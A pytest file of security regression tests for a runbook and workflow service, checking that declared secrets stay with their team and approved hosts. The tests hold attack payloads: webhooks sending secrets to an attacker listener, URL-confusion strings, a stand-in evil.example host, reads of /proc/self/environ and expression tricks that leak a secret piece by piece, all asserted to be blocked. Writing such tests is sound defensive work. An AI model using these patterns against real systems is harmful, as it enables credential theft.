"""What people could do to read a secret that is not theirs, or to send one where it does not belong.

data's secret is TOKEN, for api.data.example's stand-in on this machine; web's people want it.
"""

import base64
import json
import os
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text
from typer.testing import CliRunner

from cli.main import app as command_line
from core.tables import Base
from tests.attacks.house import DATA_ADMIN, DATA_OPS, PLATFORM, WEB_ADMIN, WEB_OPS, House
from tests.world import new_executor

VALUE = "correct horse battery staple 4711"
OWN = ("the-bot-token-xoxb-0815", "the-signing-secret-of-slack", "the-password-of-the-database")


@dataclass
class Listener:
    """A server that keeps all it is told, and answers as a test says."""

    port: int = 0
    heard: list[str] = field(default_factory=list)
    status: int = 200
    headers: Mapping[str, str] = field(default_factory=dict)
    body: bytes = b"{}"
    answers: Mapping[str, tuple[int, Mapping[str, str], bytes]] = field(default_factory=dict)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.port}"


@contextmanager
def listening() -> Iterator[Listener]:
    listener = Listener()

    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            listener.heard.append(f"{self.command} {self.path}\n{self.headers}\n{body!r}")
            usual = (listener.status, listener.headers, listener.body)
            status, headers, answer = listener.answers.get(self.path, usual)
            self.send_response(status)
            for name, value in {"Content-Length": str(len(answer)), **headers}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(answer)

        do_GET = do_POST = answer  # noqa: N815 the names that http.server calls

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 as in the base class
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    listener.port = server.server_port
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield listener
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.fixture
def ours() -> Iterator[Listener]:
    """Where data's secret may go."""
    with listening() as listener:
        yield listener


@pytest.fixture
def theirs() -> Iterator[Listener]:
    """The attacker's."""
    with listening() as listener:
        yield listener


@pytest.fixture
def armed(house: House, ours: Listener) -> House:
    """data has a secret, and the worker its value."""
    house.executor = new_executor(
        house.service, secrets={"TOKEN": VALUE, "OTHER": "never declared 0815"}, own=OWN
    )
    declare(house, teams=["data"], hosts=[ours.host])
    return house


def declare(house: House, name: str = "TOKEN", **fields: Any) -> None:
    document = {"kind": "secret", "name": name, "source": {"env": f"RUNBOOK_SECRET_{name}"}, **fields}
    house.apply(json.dumps(document))


def runbook(step: dict[str, Any], team: str = "data", name: str = "attack") -> dict[str, Any]:
    return {"kind": "runbook", "name": name, "team": team, "steps": [{"id": "go", "type": "http", **step}]}


def keep(house: House, document: dict[str, Any]) -> None:
    """As an older version of the service kept it, approved: without the checks of today."""
    harmless = runbook({"url": "https://x.example"}, document["team"], document["name"])
    house.apply(json.dumps(harmless))
    with house.service.transaction() as work:
        work.session.execute(
            text("UPDATE runbooks SET definition = CAST(:document AS json) WHERE name = :name"),
            {"document": json.dumps(document), "name": document["name"]},
        )


def run(house: House, document: dict[str, Any], *, over: str = "rest") -> dict[str, Any]:
    """The step of a kept runbook that its team's responder ran, over REST or Slack, as REST shows it."""
    keep(house, document)
    person = DATA_OPS if document["team"] == "data" else WEB_OPS
    channel = f"C0RUN{len(house.bells.rung)}{document['team'].upper()}"
    incident = house.incident(document["team"], slack_channel=channel)
    if over == "slack":
        house.slack.types(person, channel, f"run {document['name']}")
    else:
        answer = house.rest(person).post(
            f"/api/incidents/{incident.id}/runbooks/{document['name']}/execute", json={}
        )
        assert answer.status_code == 201, answer.text
    house.work()
    [execution] = (
        house.rest(person).get(f"/api/incidents/{incident.id}/runbooks/executions").json()["executions"]
    )
    step: dict[str, Any] = execution["steps"][0]
    return step


def everything(house: House) -> str:
    """Every row of every table."""
    with house.service.transaction() as work:
        tables = [table.name for table in Base.metadata.sorted_tables]
        rows = (row for name in tables for row in work.session.execute(text(f"SELECT t::text FROM {name} t")))
        return "\n".join(str(row[0]) for row in rows)


# Whose it is


def test_a_webhook_of_another_team_sends_a_secret_to_its_own_server(armed: House, theirs: Listener) -> None:
    """red before: the header with data's secret arrived at the attacker's server."""
    workflow = {
        "kind": "workflow",
        "name": "thief",
        "team": "web",
        "trigger": {"on": "manual"},
        "actions": [
            {"id": "go", "type": "webhook", "url": theirs.url, "headers": {"X-A": "{{ secrets.TOKEN }}"}}
        ],
    }
    answer = armed.rest(WEB_ADMIN).post("/api/workflows", json=workflow)
    assert answer.status_code == 422
    assert "No secret TOKEN is declared that definitions of team web may use." in answer.text

    harmless = workflow["actions"][0] | {"headers": {"X-A": "a"}}  # type: ignore[index]
    armed.apply(json.dumps(workflow | {"actions": [harmless]}))
    with armed.service.transaction() as work:
        work.session.execute(
            text("UPDATE workflows SET definition = CAST(:d AS json)"), {"d": json.dumps(workflow)}
        )
    incident = armed.incident("web")
    armed.rest(WEB_ADMIN).post("/api/workflows/thief/execute", json={"incident_id": incident.id})
    armed.work()
    assert theirs.heard == []
    assert "No secret TOKEN is declared" in everything(armed)


@pytest.mark.parametrize("over", ["rest", "slack"])
def test_a_runbook_of_another_team_sends_a_secret_to_its_own_server(
    armed: House, theirs: Listener, over: str
) -> None:
    """red before: the body with data's secret arrived."""
    step = run(
        armed, runbook({"url": theirs.url, "method": "POST", "body": "{{ secrets.TOKEN }}"}, "web"), over=over
    )
    assert theirs.heard == []
    assert step["status"] == "failed"
    assert "No secret TOKEN is declared that definitions of team web may use." in step["error"]


def test_what_is_not_declared_is_nobodys_and_what_others_have_is_not_told(armed: House) -> None:
    """red before: anybody used anything."""
    answers = []
    for name in ("TOKEN", "OTHER", "NOT_SET"):
        document = runbook({"url": "https://x.example", "headers": {"A": f"{{{{ secrets.{name} }}}}"}}, "web")
        answer = armed.rest(WEB_ADMIN).post("/api/runbooks", json=document)
        assert answer.status_code == 422
        answers.append(answer.json()["errors"][0] if "errors" in answer.json() else answer.json()["detail"])
    assert (
        len(
            {
                str(each).replace("TOKEN", "X").replace("OTHER", "X").replace("NOT_SET", "X")
                for each in answers
            }
        )
        == 1
    )
    step = run(armed, runbook({"url": "https://x.example/{{ secrets.OTHER }}"}))
    assert "No secret OTHER is declared that definitions of team data may use." in step["error"]


def test_only_a_platform_admin_declares(armed: House) -> None:
    """red before: there was nothing to declare."""
    document = {
        "kind": "secret", "name": "TOKEN", "source": {"env": "RUNBOOK_SECRET_TOKEN"},
        "teams": ["web"], "hosts": ["evil.example"],
    }  # fmt: skip
    for person in (DATA_ADMIN, WEB_ADMIN, WEB_OPS):
        rest = armed.rest(person)
        answers = [
            rest.post("/api/secrets", json=document),
            rest.put("/api/secrets/TOKEN", json=document),
            rest.delete("/api/secrets/TOKEN"),
            rest.get("/api/secrets"),
            rest.get("/api/secrets/TOKEN"),
            rest.get("/api/secrets/NOT_THERE"),
        ]
        assert [answer.status_code for answer in answers] == [403] * 6
    rest = armed.rest(PLATFORM)
    assert rest.post("/api/secrets", json=document).status_code == 409
    assert rest.put("/api/secrets/TOKEN", json=document).status_code == 200
    assert rest.get("/api/secrets/TOKEN").json()["secret"]["definition"]["teams"] == ["web"]
    assert rest.delete("/api/secrets/TOKEN").status_code == 204
    assert rest.get("/api/secrets").json() == {"secrets": []}
    actions = [entry["action"] for entry in rest.get("/api/audit").json()["audit"]]
    assert {"secret.created", "secret.changed", "secret.deleted"} <= set(actions)


def test_a_declaration_that_is_taken_away_holds_at_once(armed: House, ours: Listener) -> None:
    document = runbook({"url": ours.url, "headers": {"A": "{{ secrets.TOKEN }}"}})
    assert run(armed, document)["status"] == "succeeded"
    assert f"A: {VALUE}" in ours.heard[0]
    armed.rest(PLATFORM).delete("/api/secrets/TOKEN")
    armed.executor = new_executor(armed.service, secrets={"TOKEN": VALUE})
    assert run(armed, document)["status"] == "failed"


@pytest.mark.parametrize(
    "source",
    [
        {"env": "SLACK_SIGNING_SECRET"},
        {"env": "DATABASE_URL"},
        {"file": "/proc/self/environ"},
        {"file": "/dev/../proc/1/environ"},
    ],
)
def test_our_own_credentials_are_no_secrets_of_definitions(
    armed: House, source: dict[str, str], tmp_path: Path
) -> None:
    """red before: not possible; it must not become so by a declaration."""
    document = {"kind": "secret", "name": "OWN", "source": source, "hosts": ["x.example"]}
    assert armed.rest(PLATFORM).post("/api/secrets", json=document).status_code == 422
    file = tmp_path / "own.yaml"
    file.write_text(json.dumps(document))
    assert CliRunner().invoke(command_line, ["validate", str(file)]).exit_code == 1


# Where it may go


CARRIERS: dict[str, dict[str, Any]] = {
    "header": {"headers": {"A": "{{ secrets.TOKEN }}"}},
    "query": {"query": {"a": "{{ secrets.TOKEN }}"}},
    "json": {"method": "POST", "json": {"a": ["{{ secrets.TOKEN }}"]}},
    "body": {"method": "POST", "body": "{{ secrets.TOKEN }}"},
    "url": {"url": "URL/?a={{ secrets.TOKEN }}"},
}


@pytest.mark.parametrize("over", ["rest", "slack"])
@pytest.mark.parametrize("carrier", CARRIERS)
def test_its_own_team_sends_it_where_it_may_not_go(
    armed: House, ours: Listener, theirs: Listener, carrier: str, over: str
) -> None:
    """red before: it arrived."""
    step = {"url": theirs.url, **CARRIERS[carrier]}
    step["url"] = step["url"].replace("URL", theirs.url)
    done = run(armed, runbook(step), over=over)
    assert done["status"] == "failed"
    assert "the secret TOKEN may not go to where this request goes" in done["error"]
    assert theirs.heard == []
    step["url"] = step["url"].replace(theirs.url, ours.url)
    assert run(armed, runbook(step, name="right"))["status"] == "succeeded"
    assert "correct" in ours.heard[0]


def test_a_redirect_takes_it_elsewhere(armed: House, ours: Listener, theirs: Listener) -> None:
    """red before: no; redirects were not followed. They must not be."""
    ours.status, ours.headers = 307, {"Location": theirs.url}
    run(armed, runbook({"url": ours.url, "headers": {"Authorization": "{{ secrets.TOKEN }}"}}))
    assert len(ours.heard) == 1
    assert theirs.heard == []


@pytest.mark.parametrize(
    "url",
    [
        "http://OURS@THEIRS/",
        "http://THEIRS/?x=http://OURS",
        "http://THEIRS#@OURS/",
        "http://THEIRS\\@OURS/",
        "http://127.0.0.1.OURS/",
        "http://{{ secrets.TOKEN }}.OURS.evil.invalid/",
    ],
)
def test_an_address_that_looks_like_the_right_one(
    armed: House, ours: Listener, theirs: Listener, url: str
) -> None:
    """red before: it arrived, by whatever address."""
    url = url.replace("THEIRS", theirs.host).replace("OURS", ours.host)
    done = run(armed, runbook({"url": url, "headers": {"A": "{{ secrets.TOKEN }}"}}))
    assert theirs.heard == []
    assert done["status"] == "failed" or ours.heard, "who calls and who checks read the address alike"
    assert VALUE not in json.dumps(done)


def test_a_clients_secret_goes_to_another_authorization_server(
    armed: House, ours: Listener, theirs: Listener
) -> None:
    """red before: it arrived there."""
    auth = {
        "type": "oauth2",
        "token_url": theirs.url,
        "client_id": "me",
        "client_secret": "{{ secrets.TOKEN }}",
    }
    workflow = {
        "kind": "workflow", "name": "thief", "team": "data", "trigger": {"on": "manual"},
        "actions": [{"id": "go", "type": "webhook", "url": ours.url, "auth": auth}],
    }  # fmt: skip
    armed.apply(json.dumps(workflow))
    incident = armed.incident("data")
    armed.rest(DATA_ADMIN).post("/api/workflows/thief/execute", json={"incident_id": incident.id})
    armed.work()
    assert theirs.heard == ours.heard == []
    assert "the secret TOKEN may not go to where this request goes" in everything(armed)


def test_a_tickets_token_goes_to_another_site(armed: House, theirs: Listener) -> None:
    """red before: the token arrived at a "site" of the attacker's."""
    for action in (
        {"type": "jira", "site": theirs.url, "project": "X", "summary": "x"},
        {"type": "linear", "endpoint": theirs.url, "team": "x", "title": "x"},
    ):
        workflow = {
            "kind": "workflow", "name": action["type"], "team": "data", "trigger": {"on": "manual"},
            "actions": [{"id": "go", "token": "{{ secrets.TOKEN }}", **action}],
        }  # fmt: skip
        armed.apply(json.dumps(workflow))
        incident = armed.incident("data", slack_channel=f"C0{action['type'].upper()}")
        armed.rest(DATA_ADMIN).post(
            f"/api/workflows/{action['type']}/execute", json={"incident_id": incident.id}
        )
        armed.work()
    assert theirs.heard == []
    assert everything(armed).count("the secret TOKEN may not go to where this request goes") >= 2


def test_a_command_takes_what_is_only_for_hosts(armed: House, tmp_path: Path) -> None:
    """red before: a command had any secret in its arguments, environment or input."""
    file = tmp_path / "stolen"
    step = {"type": "shell", "argv": ["sh", "-c", f"echo $A > {file}"], "env": {"A": "{{ secrets.TOKEN }}"}}
    done = run(armed, runbook(step))
    assert "A step of type shell may not take the secret TOKEN." in done["error"]
    assert not file.exists()


# How it is used


OTHERWISE: dict[str, dict[str, Any]] = {
    "reverse": {"url": "http://127.0.0.1:9/{{ secrets.TOKEN.reverse() }}"},
    "letter by letter": {"headers": {"A": "{{ secrets.TOKEN[0] }}"}},
    "question": {"headers": {"A": '{{ secrets.TOKEN.startsWith("c") }}'}},
    "condition": {"if": 'secrets.TOKEN.startsWith("c")'},
    "expect": {"expect": 'secrets.TOKEN.startsWith("c")'},
    "save": {"save": {"a": "secrets.TOKEN"}},
    "by index": {"headers": {"A": '{{ secrets["TOKEN"] }}'}},
    "joined": {"headers": {"A": '{{ "x" + secrets.TOKEN }}'}},
    "in a list": {"json": "{{ [secrets.TOKEN] }}", "method": "POST"},
    "in a map": {"json": '{{ {"a": secrets.TOKEN} }}', "method": "POST"},
    "in a macro": {"headers": {"A": "{{ [1].map(x, secrets.TOKEN)[0] }}"}},
    "asked for": {"headers": {"A": "{{ has(secrets.TOKEN) }}"}},
    "either or": {"headers": {"A": '{{ true ? secrets.TOKEN : "" }}'}},
    "key": {"json": {"{{ secrets.TOKEN }}": 1}, "method": "POST"},
}


@pytest.mark.parametrize("way", OTHERWISE)
def test_a_secret_is_taken_apart(armed: House, ours: Listener, way: str, tmp_path: Path) -> None:
    """red before: `.reverse()` stood in clear in the failed request; a condition answered; and so on.

    Refused in a file, over REST, and when a definition that was kept long ago runs.
    """
    document = runbook({"url": ours.url, **OTHERWISE[way]})
    answer = armed.rest(DATA_ADMIN).post("/api/runbooks", json=document)
    assert answer.status_code == 422
    assert "A secret is used whole" in answer.text or "cannot be used in a key" in answer.text
    file = tmp_path / "attack.yaml"
    file.write_text(json.dumps(document, indent=1))
    said = CliRunner().invoke(command_line, ["validate", str(file)])
    assert said.exit_code == 1
    assert f"{file}:" in said.stderr

    done = run(armed, document)
    kept = everything(armed) + "".join(ours.heard)
    for part in (VALUE, VALUE[::-1], VALUE[:8], VALUE[-8:]):
        assert part not in kept
    if way != "key":
        assert done["status"] == "failed"
        assert "A secret is used whole" in done["error"]
        assert ours.heard == [] or way in ("expect", "save")


@pytest.mark.parametrize("question", ['"correct h"', '"correct i"'])
def test_an_answer_that_echoes_it_is_asked_about_it(armed: House, ours: Listener, question: str) -> None:
    """red before: `expect` and `save` saw the answer as it came, so that each question was answered."""
    ours.body = json.dumps({"echo": f"A: {VALUE}", "parts": list(VALUE)}).encode()
    step = {
        "url": ours.url,
        "headers": {"A": "{{ secrets.TOKEN }}"},
        "expect": f"!response.text.contains({question}) && !response.json.echo.contains({question})",
        "save": {"a": "response.json.echo.reverse()", "b": "response.json.parts.join('')"},
    }
    done = run(armed, runbook(step))
    assert done["status"] == "succeeded"
    kept = everything(armed)
    for part in (VALUE, VALUE[::-1], VALUE[-12:], VALUE[-12:][::-1]):
        assert part not in kept


# What is shown


@pytest.mark.parametrize("over", ["rest", "slack"])
def test_a_request_is_kept_with_its_places_marked(armed: House, ours: Listener, over: str) -> None:
    """red before: masked by searching, and what the search did not know stood in clear."""
    step = {
        "url": f"{ours.url}/x?y={{{{ secrets.TOKEN }}}}",
        "method": "POST",
        "query": {"q": "{{ secrets.TOKEN }}"},
        "headers": {"A": "Bearer {{ secrets.TOKEN }}"},
        "json": {"deep": ["a {{ secrets.TOKEN }} b"]},
    }
    done = run(armed, runbook(step), over=over)
    assert done["status"] == "succeeded", done
    assert VALUE in ours.heard[0]
    with armed.service.transaction() as work:
        request = work.session.execute(text("SELECT request FROM step_executions")).scalar_one()
    place = "{{ secrets.TOKEN }}"
    assert request["url"] == f"{ours.url}/x?y={place}"
    assert request["query"] == {"q": place}
    assert request["headers"] == {"A": f"Bearer {place}"}
    assert json.loads(request["body"]) == {"deep": [f"a {place} b"]}
    assert VALUE not in everything(armed)


@pytest.mark.parametrize(
    "url",
    [
        "{{ secrets.TOKEN }}",
        "http://{{ secrets.TOKEN }}/",
        "https://{{ secrets.TOKEN }}.invalid",
        "{{ secrets.TOKEN }}://x",
        "http://10.0.0.1:{{ secrets.TOKEN }}/",
    ],
)
def test_an_error_quotes_the_address(armed: House, url: str) -> None:
    """red before: it was quoted, masked only where the search knew the form (`pa55 w` → `pa55%20w` in a host)."""
    declare(armed, teams=["data"], hosts=["*.invalid", "10.0.0.1"])
    done = run(armed, runbook({"url": url}))
    assert done["status"] == "failed"
    for part in ("correct", "horse", "battery", "staple"):
        assert part not in json.dumps(done)


def test_a_ticket_systems_refusal_is_cut_in_the_middle_of_it(armed: House, ours: Listener) -> None:
    """red before: the error was cut at 500 characters first, and half the token stood there."""
    ours.status = 400
    for cut in range(485, 500, 3):
        ours.body = ("." * cut + " " + VALUE).encode()
        workflow = {
            "kind": "workflow", "name": f"cut-{cut}", "team": "data", "trigger": {"on": "manual"},
            "actions": [{
                "id": "go", "type": "jira", "site": ours.url, "project": "X", "summary": "x",
                "token": "{{ secrets.TOKEN }}",
            }],
        }  # fmt: skip
        armed.apply(json.dumps(workflow))
        incident = armed.incident("data", slack_channel=f"C0CUT{cut}")
        armed.rest(DATA_ADMIN).post(f"/api/workflows/cut-{cut}/execute", json={"incident_id": incident.id})
        armed.work()
    assert len(ours.heard) == 5
    assert "correct" not in everything(armed)


def test_a_long_answer_is_cut_in_the_middle_of_it(armed: House, ours: Listener) -> None:
    """red before: 16 KB of head and tail were kept, and of a secret with spaces all but the last word."""
    long = "word " + "k3y" * 700
    armed.executor = new_executor(armed.service, secrets={"TOKEN": long})
    for before in range(16_384 - 12, 16_384, 3):
        ours.body = b"." * before + b" " + long.encode() + b" ." * 20_000
        done = run(
            armed, runbook({"url": ours.url, "headers": {"A": "{{ secrets.TOKEN }}"}}, name=f"cut{before}")
        )
        assert "bytes left out" in done["output"]["body"]
        assert "k3y" not in done["output"]["body"]
        assert "word" not in done["output"]["body"]


def test_our_own_credentials_come_back(armed: House, ours: Listener) -> None:
    """red before: only definitions' secrets were masked; a command that printed the bot token showed it."""
    token = armed.rest(DATA_OPS).headers["Authorization"].removeprefix("Bearer ")
    encoded = [base64.b64encode(each.encode()).decode() for each in OWN]
    ours.body = json.dumps({"all": [*OWN, *encoded, token]}).encode()
    done = run(armed, runbook({"url": ours.url, "save": {"a": "response.json"}}))
    kept = everything(armed)
    for credential in (*OWN, *encoded, token):
        assert credential not in json.dumps(done)
        assert credential not in kept


def test_the_sources_are_emptied_behind_us(
    armed: House, ours: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Not red before: so that the environment can be emptied, nobody reads it later."""
    monkeypatch.setenv("RUNBOOK_SECRET_TOKEN", "another value")
    assert (
        run(armed, runbook({"url": ours.url, "headers": {"A": "{{ secrets.TOKEN }}"}}))["status"]
        == "succeeded"
    )
    assert VALUE in ours.heard[0]
    assert os.environ["RUNBOOK_SECRET_TOKEN"] == "another value"
